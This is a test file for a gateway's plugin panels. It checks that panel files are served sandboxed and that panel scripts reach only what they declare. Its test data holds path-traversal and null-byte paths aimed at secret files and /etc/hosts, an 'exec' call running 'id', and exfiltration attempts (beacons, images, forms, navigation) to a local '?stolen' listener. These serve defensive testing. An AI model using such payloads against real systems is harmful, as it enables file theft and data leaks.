// Tests the panels that extensions bring: how their files are served, and what they can and cannot do in a browser.
import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, request } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { FrameLocator, Page } from 'playwright-core'
import { describe, expect, it, onTestFinished } from 'vitest'
import { run } from '../cli/command-line.ts'
import {
  type Document,
  gatewayToken,
  hookToken,
  type RunningGateway,
  startGateway,
  temporaryFolder,
} from '../helpers.ts'
import { share } from '../share.ts'
import { expectAccessible, sharePages } from './open-page.ts'

const html = `<!doctype html>
<html lang="en">
<head><title>Dice</title><link rel="stylesheet" href="../../panel.css"><script type="module" src="panel.js"></script></head>
<body><h1>Dice</h1><button>Roll</button><pre></pre><output></output></body>
</html>`

/** A panel that says what it can reach. */
const script = `
import { connectPanel } from '../../panel.js'
const panel = connectPanel()
const said = document.querySelector('output')
document.querySelector('button').onclick = async () => {
  said.textContent = await attempt(() => panel.invoke('roll_dice', { sides: 6 }))
}
const attempt = async (work) => {
  try {
    return JSON.stringify(await work()) ?? 'done'
  } catch (error) {
    return 'refused: ' + error.message
  }
}
const attempts = {
  runs: () => panel.read('/api/runs', { query: { limit: '1' } }).then(({ items }) => items.length),
  run: () => panel.read('/runs/{id}', { path: { id: 'nothing' } }),
  dots: () => panel.read('/runs/{id}', { path: { id: '..' } }),
  requests: () => panel.read('/api/requests'),
  link: () => panel.read('/api/page/link'),
  foreignTool: () => panel.invoke('exec', { command: 'id' }),
  inherited: () => panel.read('constructor'),
  malformed: () => panel.invoke('roll_dice', 'six'),
  storage: () => sessionStorage.length,
  cookie: () => document.cookie,
  page: () => parent.document.title,
  fetch: () => fetch('/healthz').then(({ status }) => status),
  outside: () => fetch(outside).then(({ status }) => status),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(location.href.replace(/^http/, 'ws').replace(/page.*/, 'ws'))
    socket.onopen = resolve
    socket.onerror = () => reject(new Error('no connection'))
  }),
  popup: () => open(outside) === null,
  worker: () => navigator.serviceWorker.register('panel.js'),
}
const outside = new URLSearchParams(location.search).get('outside') ?? 'http://127.0.0.1:9/'
for (const [name, work] of Object.entries(attempts))
  document.querySelector('pre').textContent += name + ' ' + (await attempt(work)) + '\\n'
document.querySelector('pre').textContent += 'end'
`

const plugin = `
import { defineChannel, definePreset, defineTool, defineToolset, Type } from 'svc-gateway/plugin'
const panel = (name, reads) => ({ title: 'My ' + name, folder: new URL('./' + name + '/', import.meta.url), reads })
const roll = defineTool({
  name: 'roll_dice', description: 'Rolls.', effects: [],
  args: Type.Object({ sides: Type.Integer() }, { additionalProperties: false }),
  execute: ({ sides }) => ({ sides, shows: 4 }),
})
export default [
  defineToolset({ name: 'dice', description: 'Dice.', tools: [roll], panel: panel('dice', ['/api/runs', '/runs/{id}']) }),
  definePreset({ name: 'shop', description: 'A shop.', payload: Type.Object({}), mapping: { messageTemplate: 'Hi.' }, panel: panel('dice') }),
  defineChannel({
    name: 'pager', description: 'A pager.', config: Type.Object({}), target: Type.String(),
    limits: { maxText: 100, idempotency: 'none' }, panel: panel('dice'),
    connect: async () => ({ send: async () => ({ outcome: 'sent' }), close: async () => undefined }),
  }),
]`

/** A folder with the plugin and its panel, and a file next to it that is none of its business. */
function writePlugin(): string {
  const dir = temporaryFolder()
  mkdirSync(join(dir, 'dice', 'assets'), { recursive: true })
  writeFileSync(join(dir, 'plugin.mjs'), plugin)
  writeFileSync(join(dir, 'secret.txt'), 'a secret')
  writeFileSync(join(dir, 'dice', 'index.html'), html)
  writeFileSync(join(dir, 'dice', 'panel.js'), script)
  return dir
}

const config = { plugins: ['./plugin.mjs'], agents: { defaults: { heartbeat: { every: 0 } } } }
const start = (changes: Document = {}) => startGateway({ ...config, ...changes }, writePlugin())

describe('the files of a panel', () => {
  const running = share(() =>
    start({ channels: { pager: {} }, hooks: { enabled: true, token: hookToken, presets: ['shop'] } }),
  )
  const base = '/page/panels/toolset/dice/'
  const fetchFile = (path: string, init?: RequestInit) => fetch(running().url + path, init)
  /** `fetch` would normalize the path. */
  async function statusOf(path: string): Promise<number | undefined> {
    const sent = request(running().url, { path }).end()
    const [response] = await once(sent, 'response')
    response.resume()
    return response.statusCode
  }

  it('are served sandboxed, of their type, and again only when they have changed', async () => {
    const response = await fetchFile(`${base}index.html`)
    expect(await response.text()).toBe(html)
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy':
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; " +
        "base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox allow-scripts allow-forms",
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-cache',
      'access-control-allow-origin': '*',
      'cross-origin-resource-policy': 'cross-origin',
    })
    const etag = response.headers.get('etag') ?? ''
    expect((await fetchFile(`${base}index.html`, { headers: { 'if-none-match': etag } })).status).toBe(304)
    writeFileSync(join(running().dir, 'dice', 'index.html'), `${html}\n`)
    const changed = await fetchFile(`${base}index.html`, { headers: { 'if-none-match': etag } })
    expect([changed.status, changed.headers.get('etag') === etag]).toEqual([200, false])
  })

  it.each([
    ['assets/a.js', 'text/javascript; charset=utf-8'],
    ['assets/a-b_c.1.mjs', 'text/javascript; charset=utf-8'],
    ['a.css', 'text/css; charset=utf-8'],
    ['a.svg', 'image/svg+xml'],
    ['a.png', 'image/png'],
    ['a.json', 'application/json; charset=utf-8'],
    ['a.woff2', 'font/woff2'],
  ])('have the type of their extension: %s', async (path, type) => {
    writeFileSync(join(running().dir, 'dice', path), 'content')
    const { status, headers } = await fetchFile(base + path)
    expect([status, headers.get('content-type')]).toEqual([200, type])
  })

  it('are only those in the folder, of known types', async () => {
    const { dir } = running()
    const folder = join(dir, 'dice')
    symlinkSync(join(dir, 'secret.txt'), join(folder, 'link.txt'))
    symlinkSync(dir, join(folder, 'outside'))
    symlinkSync(join(folder, 'index.html'), join(folder, 'inside.html'))
    symlinkSync('loop.txt', join(folder, 'loop.txt'))
    execFileSync('mkfifo', [join(folder, 'pipe.txt')])
    mkdirSync(join(folder, 'folder.txt'))
    for (const name of ['.env', '.hidden.txt', 'code.php', 'noextension', 'a.html~'])
      writeFileSync(join(folder, name), 'secret')
    writeFileSync(join(folder, 'large.txt'), Buffer.alloc(8_388_609))
    const refused = [
      '../secret.txt',
      '%2e%2e/secret.txt',
      '..%2fsecret.txt',
      '%2e%2e%2fsecret.txt',
      '..%5csecret.txt',
      '%252e%252e%252fsecret.txt',
      'assets/../../secret.txt',
      'assets%2f..%2f..%2fsecret.txt',
      '%2fetc%2fhosts.txt',
      `%2f${encodeURIComponent(join(dir, 'secret.txt'))}`,
      'secret.txt%00.html',
      'index.html%00',
      'link.txt',
      'outside/secret.txt',
      'loop.txt',
      'pipe.txt',
      'folder.txt',
      '.env',
      '.hidden.txt',
      'code.php',
      'noextension',
      'a.html~',
      'large.txt',
      'nothing.html',
      '',
      'assets',
      '__proto__',
      'a.__proto__',
    ]
    const statuses = await Promise.all(refused.map(async (path) => [path, await statusOf(base + path)]))
    expect(statuses).toEqual(refused.map((path) => [path, 404]))
    expect(await statusOf(`${base}inside.html`)).toBe(200)
  })

  it('are there while the extension is in use', async () => {
    const places = ['toolset/dice', 'preset/shop', 'channel/pager']
    const statusIn = async ({ url }: { url: string }) =>
      await Promise.all(places.map(async (place) => (await fetch(`${url}/page/panels/${place}/index.html`)).status))
    const listIn = async ({ get }: Pick<RunningGateway, 'get'>) =>
      (await get('/api/panels')).body.items.map(({ kind, name }: Record<string, string>) => `${kind}/${name}`)
    expect(await statusIn(running())).toEqual([200, 200, 200])
    expect(await listIn(running())).toEqual(expect.arrayContaining(places))
    const unused = await start({ channels: { pager: { enabled: false } } })
    expect(await statusIn(unused)).toEqual([200, 404, 404])
    expect(await listIn(unused)).not.toContain('preset/shop')
    const without = await startGateway()
    expect(await statusIn(without)).toEqual([404, 404, 404])
    for (const place of ['toolset/constructor', 'nothing/dice', '__proto__/toString', 'toolset/exec'])
      expect((await fetch(`${without.url}/page/panels/${place}/index.html`)).status).toBe(404)
    const off = await start({ gateway: { page: false } })
    expect(await statusIn(off)).toEqual([404, 404, 404])
    expect(await listIn(off)).toEqual([])
  })

  it('share a script and a stylesheet of the gateway, and no other file', async () => {
    for (const [name, type] of [
      ['panel.js', 'text/javascript; charset=utf-8'],
      ['panel.css', 'text/css; charset=utf-8'],
    ]) {
      const response = await fetchFile(`/page/panels/${name}`)
      expect([response.status, response.headers.get('content-type')]).toEqual([200, type])
    }
    for (const name of ['index.html', '..%2findex.html', '..%2fmain.js', '__proto__'])
      expect(await statusOf(`/page/panels/${name}`)).toBe(404)
  })
})

describe('the declaration of a panel', () => {
  it.each([
    [`{ folder: new URL('./dice/', import.meta.url) }`, '`panel.title` must be a text of at most 40 characters'],
    [`{ title: 'Dice', folder: './dice/' }`, '`panel.folder` must be the address of a folder'],
    [`{ title: 'Dice', folder: new URL('https://evil.test/') }`, '`panel.folder` must be the address of a folder'],
    [`{ title: 'Dice', folder: new URL('./dice', import.meta.url) }`, '`panel.folder` must be the address of a folder'],
    [`{ title: 'Dice', folder: new URL('./no/', import.meta.url) }`, 'its panel has no index.html in '],
    [
      `{ title: 'Dice', folder: new URL('./dice/', import.meta.url), reads: ['runs'] }`,
      '`panel.reads` must be a list of',
    ],
    [
      `{ title: 'Dice', folder: new URL('./dice/', import.meta.url), reads: ['/api/../page'] }`,
      '`panel.reads` must be',
    ],
  ])('is refused with one sentence: %s', async (panel, fault) => {
    const dir = writePlugin()
    const text = plugin.replace(/panel: panel\('dice', \['.*'\]\)/, `panel: ${panel}`)
    writeFileSync(join(dir, 'plugin.mjs'), text)
    const { get } = await startGateway(config, dir)
    const { problems } = (await get('/api/extensions')).body as { problems: string[] }
    expect(problems).toEqual([expect.stringContaining(`The toolset "dice" from "./plugin.mjs" was refused: ${fault}`)])
  })
})

describe('a panel in the page', () => {
  const { open, visit } = sharePages()
  const viewerToken = 'the-token-of-a-viewer-0123456789-0123456789'
  const gateway = share(() =>
    start({
      gateway: {
        port: 0,
        auth: { token: gatewayToken, clients: [{ name: 'viewer', role: 'viewer', token: viewerToken }] },
      },
    }),
  )
  const frameOf = (page: Page) => page.frameLocator('iframe')
  /** Runs code in the panel, as an injected script would run. */
  const runIn = async (page: Page, code: string): Promise<unknown> =>
    await page
      .frames()
      .find((frame) => frame.url().includes('/page/panels/'))
      ?.evaluate(code)
  const reportOf = async (frame: FrameLocator): Promise<Record<string, string>> => {
    await frame.getByText(/^end$/m).waitFor()
    const text = await frame.locator('pre').innerText()
    return Object.fromEntries(text.split('\n').map((line) => [line.split(' ')[0], line.slice(line.indexOf(' ') + 1)]))
  }

  it('is in the navigation, reads what it declares, calls its tools, and reaches nothing else', async () => {
    const { page, asked } = await open(gateway().url, '#/panels')
    await page.getByRole('heading', { name: 'My dice' }).waitFor()
    await expectAccessible(page)
    await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'My dice' }).click()
    const frame = frameOf(page)
    expect(await reportOf(frame)).toEqual({
      runs: '0',
      run: expect.stringMatching(/^refused: .*run/),
      dots: 'refused: A value of the path is empty or consists of dots.',
      requests: expect.stringContaining('does not declare'),
      link: expect.stringContaining('does not declare'),
      foreignTool: 'refused: The toolset of the panel has no tool "exec" now.',
      inherited: expect.stringContaining('does not declare'),
      malformed: expect.stringContaining('args'),
      storage: expect.stringMatching(/^refused: .*sandboxed/),
      cookie: expect.stringMatching(/^refused: .*sandboxed/),
      page: expect.stringMatching(/^refused: .*cross-origin/),
      fetch: expect.stringMatching(/^refused: /),
      outside: expect.stringMatching(/^refused: /),
      socket: expect.stringMatching(/^refused: /),
      popup: 'true',
      worker: expect.stringMatching(/^refused: /),
      end: 'end',
    })
    await frame.getByRole('button', { name: 'Roll' }).click()
    await frame.getByText('{"sides":6,"shows":4}').waitFor()
    await expectAccessible(page)
    expect(asked.filter((address) => !address.startsWith(`${gateway().url}/`))).toEqual([])
  })

  it('has the rights of the reader', async () => {
    const { page } = await open(gateway().url, '#/panels/toolset/dice', {
      tabStorage: { 'svc-gateway credential /': viewerToken },
    })
    const frame = frameOf(page)
    expect(await reportOf(frame)).toMatchObject({ runs: '0' })
    await frame.getByRole('button', { name: 'Roll' }).click()
    const said = frame.locator('output').filter({ hasText: 'has the role viewer; this needs the role operator' })
    await said.waitFor()
  })

  it('cannot send what it has read elsewhere by leaving its frame', async () => {
    const received: string[] = []
    const server = createServer((incoming, response) => {
      received.push(incoming.url ?? '')
      response.end()
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    onTestFinished(() => {
      server.closeAllConnections()
      server.close()
    })
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/?stolen`
    const { page } = await open(gateway().url, '#/panels/toolset/dice')
    const frame = frameOf(page)
    await reportOf(frame)
    const complaints: string[] = []
    page.on('console', (message) => void complaints.push(message.text()))
    for (const code of [
      `open('${address}', '_top')`,
      `open('${address}')`,
      `document.body.append(Object.assign(new Image(), { src: '${address}' }))`,
      `document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${address}' }))`,
      `document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${address}' }))`,
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${address}' }))`,
      `document.body.append(Object.assign(document.createElement('form'), { method: 'post', action: '${address}' }))`,
      `document.querySelector('form').submit()`,
      `navigator.sendBeacon('${address}', 'stolen')`,
      `import('${address}')`,
      `location.href = '${address}'`,
    ])
      // What is forbidden may also throw.
      await runIn(page, code).catch(() => undefined)
    await expect.poll(() => complaints.filter((text) => text.includes('frame-src')).length).toBeGreaterThan(0)
    await page.getByRole('heading', { name: 'My dice' }).waitFor()
    await page.getByRole('link', { name: 'Runs', exact: true }).click()
    await page.getByRole('heading', { name: 'Runs', exact: true }).waitFor()
    expect(new URL(page.url()).origin).toBe(gateway().url)
    expect(received).toEqual([])
  })

  it('shows the colors of the page, and other views', async () => {
    const { page } = await open(gateway().url, '#/panels/toolset/dice')
    const frame = frameOf(page)
    await reportOf(frame)
    const theme = () => frame.locator('html').getAttribute('data-theme')
    await page.getByRole('button', { name: 'Use dark colors' }).click()
    await expect.poll(theme).toBe('dark')
    await page.getByRole('button', { name: 'Use light colors' }).click()
    await expect.poll(theme).not.toBe('dark')
    await runIn(page, `parent.postMessage({ go: 'javascript:alert(1)' }, '*')`)
    await runIn(page, `parent.postMessage({ go: '#/runs' }, '*')`)
    await page.getByRole('heading', { name: 'Runs', exact: true }).waitFor()
  })

  it('answers no other window, and says when there is no such panel', async () => {
    const { page } = await open(gateway().url, '#/panels/toolset/dice')
    const frame = frameOf(page)
    await reportOf(frame)
    await page.evaluate(`
      globalThis.answers = []
      addEventListener('message', ({ data }) => 'id' in data && !('read' in data) && !('invoke' in data) && answers.push(data))
      postMessage({ id: 1, read: '/api/runs' }, '*')
    `)
    await frame.getByRole('button', { name: 'Roll' }).click()
    await frame.getByText('{"sides":6,"shows":4}').waitFor()
    expect(await page.evaluate('answers')).toEqual([])
    await page.goto(`${gateway().url}/#/panels/toolset/nothing`)
    await page.getByText('There is no such panel').waitFor()
  })

  it('is in an origin of its own where it is opened alone, too', async () => {
    const { page } = await visit(`${gateway().url}/page/panels/toolset/dice/index.html`, {
      tabStorage: {},
    })
    await page.getByText(/^end$/m).waitFor()
    const text = await page.locator('pre').innerText()
    expect(text).toMatch(/^runs refused: A panel works only inside the control page\.$/m)
    expect(text).toMatch(/^storage refused: .*sandboxed/m)
    expect(text).toMatch(/^fetch refused: /m)
  })

  it('is written by `plugin new`, and works as it stands', async () => {
    const dir = temporaryFolder()
    const service = createServer((_request, response) => {
      response.end(JSON.stringify([{ title: '<b>About tea</b>', url: 'https://example.com/1', summary: 'Short.' }]))
    })
    service.listen(0, '127.0.0.1')
    await once(service, 'listening')
    onTestFinished(() => {
      service.closeAllConnections()
      service.close()
    })
    for (const [name, kind] of [
      ['tea', 'toolset'],
      ['coffee', 'preset'],
    ] as const)
      await run(dir, ['plugin', 'new', name, '--kind', kind, '--panel', '--dir', name])
    const { url, get, post } = await startGateway(
      {
        plugins: ['./tea/src/index.ts', './coffee/src/index.ts'],
        tools: { tea: { url: `http://127.0.0.1:${(service.address() as AddressInfo).port}`, token: 'a-token' } },
        hooks: { enabled: true, token: hookToken, presets: ['coffee'], coffee: { auth: { secret: 'a'.repeat(32) } } },
      },
      dir,
    )
    const { page, complaints } = await open(url, '#/panels/toolset/tea')
    await frameOf(page).getByLabel('Words to search for').fill('tea')
    await frameOf(page).getByRole('button', { name: 'Search' }).click()
    await frameOf(page).getByRole('cell', { name: '<b>About tea</b>' }).waitFor()
    await expectAccessible(page)
    const { items } = (await get('/api/presets/coffee/samples')).body
    const operator = { authorization: `Bearer ${gatewayToken}` }
    await post(`/api/presets/coffee/samples/${items[0].name}/send`, {}, operator)
    await page.getByRole('link', { name: 'Coffee' }).click()
    await frameOf(page).getByRole('cell', { name: 'accepted' }).waitFor()
    await frameOf(page).getByRole('button', { name: 'Open' }).click()
    await page.getByRole('heading', { name: 'Requests', exact: true }).waitFor()
    expect(complaints).toEqual([])
  })

  it('works as docs/plugins.md shows', async () => {
    const text = readFileSync(join(import.meta.dirname, '..', '..', 'docs', 'plugins.md'), 'utf8')
    const [, page = ''] = /^```html\n([^]*?)^```/m.exec(text) ?? []
    const [, script = ''] = /^```js\n(\/\/ panel\.js[^]*?)^```/m.exec(text) ?? []
    const [, toolset = ''] = /^```ts\n(\/\/ dice\.ts[^]*?)^```/m.exec(text) ?? []
    const [, panel = ''] = /`(panel: \{ title: 'Dice'.*?\})`/.exec(text) ?? []
    const dir = temporaryFolder()
    mkdirSync(join(dir, 'panel'))
    writeFileSync(join(dir, 'panel', 'index.html'), page)
    writeFileSync(join(dir, 'panel', 'panel.js'), script)
    writeFileSync(join(dir, 'dice.ts'), toolset.replace('tools: [roll]', `tools: [roll], ${panel}`))
    const { url } = await startGateway({ plugins: ['./dice.ts'] }, dir)
    const { page: opened, complaints } = await open(url, '#/panels/toolset/dice')
    await frameOf(opened).getByRole('button', { name: 'Roll for 0 runs' }).click()
    await frameOf(opened)
      .getByText(/^[1-6], [1-6]$/)
      .waitFor()
    await expectAccessible(opened)
    expect(complaints).toEqual([])
  })
})
